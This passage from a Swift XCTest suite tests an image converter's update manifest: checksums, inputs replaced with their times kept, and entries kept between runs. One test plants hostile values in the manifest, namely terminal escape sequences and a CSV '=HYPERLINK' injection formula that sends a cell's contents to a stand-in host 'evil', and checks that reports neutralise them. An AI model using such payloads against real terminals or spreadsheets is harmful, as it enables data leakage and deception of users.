        let changed = Double(st.st_ctim.tv_sec) + Double(st.st_ctim.tv_nsec) * 1e-9
        try editManifest(["a.nv12": ["output_sha256": wrong, "output_ctime": "\(changed)"]], checksum: false)
        let dry = try run(["convert", "in/", "-o", "out/", "--update", "-n"])
        XCTAssertTrue(String(decoding: dry.stdout, as: UTF8.self).contains(
            "replace in/a.png -> out/a.nv12 (nv12): its line in the manifest (.yuvconv-manifest) cannot be used"),
            String(decoding: dry.stdout, as: UTF8.self))
        XCTAssertTrue(dry.stderr.contains("line_crc32 is not the line's checksum: the line was edited or damaged"), dry.stderr)
        let (r, images, _) = try update()
        summary(r, converted: 1, skipped: 2)
        let real = SHA256.hex([UInt8](try contents("out/a.nv12")))
        XCTAssertEqual(images["in/a.png"]?["output_sha256"] as? String, real)
        XCTAssertNotEqual(real, wrong)
        // Written again with its checksum: the next run keeps everything.
        summary(try update().result, converted: 0, skipped: 3)
    }

    /// The manifest's text goes into reports, and anyone who can write in the output folder can edit it: its
    /// control characters are shown as `\xNN` like any file's text (before: raw, an escape sequence set the
    /// terminal's title and cleared it), and a line naming a route the tool does not have is unread and its output
    /// converted again (before: a `=HYPERLINK` formula went into the CSV unguarded).
    func testManifestTextIsNotTrusted() throws {
        try makeInputs()
        summary(try update().result, converted: 3, skipped: 0)
        try editManifest(["a.nv12": ["source_sampling": "\u{1B}]0;pwned\u{07}\u{1B}[2J\u{1B}[31mRED"],
                          "b.nv12": ["path": "=HYPERLINK(\"http://evil/?\"&A1)"],
                          "c.nv12": ["color_management": "\u{1B}[31mRED"]])
        for format in ["text", "csv"] {
            let r = try run(["convert", "in/", "-o", "out/", "--update", "--report", format])
            XCTAssertEqual(r.status, 1, r.stderr)
            let out = String(decoding: r.stdout, as: UTF8.self) + r.stderr
            XCTAssertFalse(out.contains("\u{1B}") || out.contains("\u{07}") || out.contains("HYPERLINK"), out.debugDescription)
            XCTAssertTrue(out.contains("\\x1B]0;pwned\\x07\\x1B[2J\\x1B[31mRED"), out)
            if format == "text" {
                XCTAssertTrue(r.stderr.contains("line 4: path is not one this version knows"), r.stderr)
                summary(r, converted: 1, skipped: 2)
            } else {
                summary(r, converted: 0, skipped: 3)   // b's line written again by the run before
            }
        }
    }

    /// An input another file was moved over — the same size and, as `cp -p`, `rsync -a` and `tar x` leave it, the
    /// same modification time — is read, found changed and converted again (before, its size and time vouched for
    /// it: the output stayed the old picture's); one only touched back to its time is read and kept.
    func testInputReplacedWithItsTimeKeptIsConvertedAgain() throws {
        try makeInputs()
        // in/a.png as a stored PNG: another picture of the same size is a file of the same length.
        let a = work.appendingPathComponent("in/a.png"), copy = work.appendingPathComponent("copy.png")
        func picture(_ rgb: [UInt8], at url: URL) throws {
            try writePNG(url.path, width: 16, height: 16, pixels: Array((0..<256).map { _ in rgb }.joined()))
            try FileManager.default.setAttributes([.modificationDate: Date(timeIntervalSince1970: 1_700_000_000)],
                                                  ofItemAtPath: url.path)
        }
        try picture([255, 0, 0], at: a)
        summary(try update().result, converted: 3, skipped: 0)
        let red = try contents("out/a.nv12")
        // The same bytes under a new inode, its time put back: read, found the same, kept.
        try picture([255, 0, 0], at: copy)
        XCTAssertEqual(rename(copy.path, a.path), 0)
        summary(try update().result, converted: 0, skipped: 3)
        // Another picture of the same size and time moved over it: converted again.
        try picture([0, 0, 255], at: copy)
        XCTAssertEqual(try Data(contentsOf: copy).count, try Data(contentsOf: a).count)
        XCTAssertEqual(rename(copy.path, a.path), 0)
        let changed = try update()
        summary(changed.result, converted: 1, skipped: 2)
        XCTAssertEqual(changed.images["in/a.png"]?["up_to_date"] as? Bool, false)
        XCTAssertNotEqual(try contents("out/a.nv12"), red)
        // And with it recorded, a run over nothing changed reads nothing again and keeps all.
        summary(try update().result, converted: 0, skipped: 3)
    }

    /// A run over some of the inputs keeps the others' entries; the manifest's own name is no output's.
    func testManifestKeepsOutputsNotInThisRun() throws {
        try makeInputs()
        summary(try update().result, converted: 3, skipped: 0)
        let one = try run(["convert", "in/a.png", "in/b.jpg", "-o", "out/", "--update", "--matrix", "bt2020", "-q"])
        XCTAssertTrue(one.stderr.contains("2 converted, 0 kept"), one.stderr)
        let lines = String(decoding: try contents("out/.yuvconv-manifest"), as: UTF8.self).split(separator: "\n")
        XCTAssertEqual(lines.filter { !$0.hasPrefix("#") && !$0.hasPrefix("yuvconv-manifest") }.map { String($0.prefix { $0 != "\t" }) },
                       outputs)
        let mixed = try update()
        summary(mixed.result, converted: 2, skipped: 1)
        XCTAssertEqual(mixed.images["in/c.png"]?["up_to_date"] as? Bool, true)
        let clash = try run(["convert", "in/a.png", "-o", "y/", "--update", "--name", ".yuvconv-manifest", "-f", "nv12"])
        XCTAssertEqual(clash.status, 2, clash.stderr)
        XCTAssertTrue(clash.stderr.contains("y/.yuvconv-manifest is the name of --update's manifest (.yuvconv-manifest)"), clash.stderr)
        let report = try run(["convert", "in/", "-o", "x/", "--update", "--report", "csv", "--report-file", "x/.yuvconv-manifest"])
        XCTAssertEqual(report.status, 2, report.stderr)
        XCTAssertTrue(report.stderr.contains("x/.yuvconv-manifest is the name of --update's manifest (.yuvconv-manifest)"), report.stderr)
        XCTAssertFalse(FileManager.default.fileExists(atPath: work.appendingPathComponent("x").path))
    }
}
